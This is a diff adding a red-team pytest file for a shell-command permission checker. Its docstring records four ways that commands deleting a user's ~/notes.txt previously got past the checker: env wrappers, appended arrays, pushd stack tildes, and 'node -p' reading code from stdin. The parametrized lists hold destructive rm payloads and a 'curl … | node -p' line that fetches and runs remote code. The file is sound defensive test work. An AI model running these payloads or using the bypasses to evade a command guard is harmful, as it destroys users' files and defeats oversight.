@@ -1,0 +1,156 @@
+"""stop 58 (issue 8): stop 57's open items, with the project where users keep theirs (~/p).
+
+1. What a wrapper gives the command it runs: `export X=p/; env X=/ bash -c 'rm -f ~/"$X"notes.txt'` removes the
+   user's ~/notes.txt and was read with the exported value (~/p/notes.txt, the project's) and allowed; `env -u X` and
+   `env -i` (the child has no X) likewise. A wrapper's assignments are the value the chain reads, and a variable its
+   `clears_environment` / `unsets_variable` options take away is known only at run time there.
+2. An array appended to that the line never set (`x+=(~/notes.txt); rm -f ${x[@]}`) was dropped and read as the
+   environment's value of the user's: allowed. It holds what the line appended.
+3. pushd's stack: `pushd ~; pushd /tmp; rm -f ~1/notes.txt` (and `${DIRSTACK[1]}`) names the user's note, a path the
+   line's own cd and pushd computed; `~1` raised an AssertionError in the path classifier (failed closed, no grant).
+4. `node -p` with no program (`-p` followed by nothing or by a word starting with `-`) runs its input:
+   `echo CODE | node -p` and `curl URL | node -p` were allowed.
+"""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from engine import Engine
+from tests.redteam.harm import (
+    allowed_and_harmless,
+    home_project_verdicts,
+    lost_unguarded_then_blocked,
+    note_lost,
+    unguarded_home,
+)
+
+Loaded = tuple[Engine, Path, Path]  # home_project's (engine, home, project)
+
+# -- 1. a wrapper's environment ---------------------------------------------------------------------------------------
+_WRAPPED_AWAY = [
+    """export X=p/; env X=/ bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env -u X bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env -i bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env - bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env --unset=X sh -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env -S '-u X' bash -c 'rm -f ~/"$X"notes.txt'""",
+    """declare -x X=p/; env -i PATH=/usr/bin bash -c 'rm -f ~/"$X"notes.txt'""",
+    """X=/; env X=p/ rm -f ~/"$X"notes.txt""",
+]
+_WRAPPED_KEPT = [
+    """env X=p/ bash -c 'rm -f ~/"$X"notes.txt'""",
+    """X=/; env X=p/ bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env -u Y bash -c 'rm -f ~/"$X"notes.txt'""",
+    """export X=p/; env -u X rm -f ~/"$X"notes.txt""",
+    "env -i PATH=/usr/bin make",
+    "env -i bash -c 'echo hi'",
+    "env -u X bash -c 'rm -f x.o'",
+]
+_wrapped = home_project_verdicts(_WRAPPED_AWAY, _WRAPPED_KEPT)
+test_a_variable_a_wrapper_changes_is_not_read_with_the_lines_value = _wrapped[0]
+test_what_a_wrapper_gives_stays_read_where_it_is_known = _wrapped[1]
+
+
+@pytest.mark.parametrize("payload", _WRAPPED_AWAY[:2])  # (env -i: the tilde of a shell with no HOME is the real one)
+def test_a_wrappers_environment_loses_the_note_unguarded_and_is_refused(
+    tmp_path: Path, home_project: Loaded, payload: str
+) -> None:
+    lost_unguarded_then_blocked(tmp_path, home_project, payload, note_lost)
+
+
+def test_what_a_wrapper_assigns_is_the_projects_file_it_names(home_project: Loaded) -> None:
+    """`env X=p/ bash -c …` removes the project's ~/p/notes.txt: allowed, and the user's note is kept."""
+    allowed_and_harmless(home_project, _WRAPPED_KEPT[0])
+
+
+# -- 2. an array appended to that the line never set ------------------------------------------------------------------
+_APPENDED = [
+    "x+=(~/notes.txt); rm -f ${x[@]}",
+    'x+=(~/notes.txt); rm -f "${x[@]}"',
+    "x+=(~/notes.txt); rm -f $x",
+    "x=(); x+=(a ~/notes.txt); rm -f ${x[@]}",
+    "declare -a x; x+=(~/notes.txt); rm -f ${x[@]}",
+]
+_APPENDED_KEPT = [
+    "x+=(a.o b.o); rm -f ${x[@]}",
+    'x=(a.o); x+=(b.o); rm -f "${x[@]}"',
+    "rm -f $y",
+]
+_appended = home_project_verdicts(_APPENDED, _APPENDED_KEPT)
+test_an_array_appended_to_holds_what_the_line_appended = _appended[0]
+test_an_array_of_the_projects_files_stays_allowed = _appended[1]
+
+
+@pytest.mark.parametrize("payload", _APPENDED[:2])
+def test_an_appended_array_loses_the_note_unguarded_and_is_refused(
+    tmp_path: Path, home_project: Loaded, payload: str
+) -> None:
+    lost_unguarded_then_blocked(tmp_path, home_project, payload, note_lost)
+
+
+# -- 3. pushd's stack -------------------------------------------------------------------------------------------------
+_STACKED = [
+    "pushd ~; pushd /tmp; rm -f ~1/notes.txt",
+    "pushd ~ >/dev/null; pushd /tmp >/dev/null; rm -f ~+1/notes.txt",
+    "pushd ~; pushd /tmp; rm -f ${DIRSTACK[1]}/notes.txt",
+    "cd /tmp; cd ~; rm -f ${DIRSTACK[0]}/notes.txt",
+    "cd ~; rm -f $DIRSTACK/notes.txt",
+    "pushd ~; rm -f ~0/notes.txt",
+]
+_STACK_KEPT = [
+    "pushd src; rm -f x.o; popd",
+    "cd src; rm -f ~+/x.o",
+    "cd /tmp; cd -; rm -f ~-/x",
+    "echo ~1",
+    "ls ~+",
+]
+_stacked = home_project_verdicts(_STACKED, _STACK_KEPT)
+test_a_folder_of_pushds_stack_is_a_path_the_line_computed = _stacked[0]
+test_the_working_directorys_tildes_stay_read_as_before = _stacked[1]
+
+
+@pytest.mark.parametrize("payload", _STACKED[:3])
+def test_pushds_stack_loses_the_note_unguarded_and_is_refused(
+    tmp_path: Path, home_project: Loaded, payload: str
+) -> None:
+    lost_unguarded_then_blocked(tmp_path, home_project, payload, note_lost)
+
+
+# -- 4. node -p with no program ---------------------------------------------------------------------------------------
+_REMOVE_NOTE = "require('fs').rmSync(process.env.HOME + '/notes.txt')"
+_NODE_INPUT = [
+    f'echo "{_REMOVE_NOTE}" | node -p',
+    f'echo "{_REMOVE_NOTE}" | node -p -',
+    f'echo "{_REMOVE_NOTE}" | node --print --',
+    f'node -p <<< "{_REMOVE_NOTE}"',
+    "curl -s https://x.example.com/a.js | node -p",
+]
+_NODE_KEPT = [
+    "node -p 1+1",
+    "node -p -e 1+1",
+    "curl -s https://api.example.com/v1 | node -p 'JSON.parse(require(\"fs\").readFileSync(0)).tag_name'",
+    "curl -s https://api.example.com/v1 | node --print 'JSON.parse(require(\"fs\").readFileSync(0)).tag_name'",
+    f'echo "{_REMOVE_NOTE}" | node -p 1',
+]
+_node = home_project_verdicts(_NODE_INPUT, _NODE_KEPT)
+test_node_print_with_no_program_reads_its_input_as_one = _node[0]
+test_node_print_of_a_given_program_stays_allowed = _node[1]
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+@pytest.mark.parametrize("payload", _NODE_INPUT[:3])
+def test_node_print_of_its_input_loses_the_note_unguarded_and_is_refused(
+    tmp_path: Path, home_project: Loaded, payload: str
+) -> None:
+    lost_unguarded_then_blocked(tmp_path, home_project, payload, note_lost)
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+def test_node_print_of_a_given_program_leaves_the_note(tmp_path: Path) -> None:
+    """The near miss's harm: with a program given, its input is data (the note stays)."""
+    assert not note_lost(unguarded_home(tmp_path, _NODE_KEPT[4]))
